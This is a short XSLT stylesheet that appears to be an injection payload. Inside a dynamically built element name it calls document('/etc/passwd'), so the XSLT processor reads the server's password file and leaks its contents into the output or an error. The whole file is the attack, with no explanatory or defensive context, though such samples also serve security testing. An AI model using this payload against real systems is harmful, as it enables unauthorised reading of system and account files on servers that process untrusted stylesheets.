<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">
<xsl:template match="/">
  <report><title><word key="title"/></title><section>
    <xsl:element name="p{concat(&quot;'&quot;, document('/etc/passwd'), &quot;'&quot;)}"/>
  </section></report>
</xsl:template>
</xsl:stylesheet>
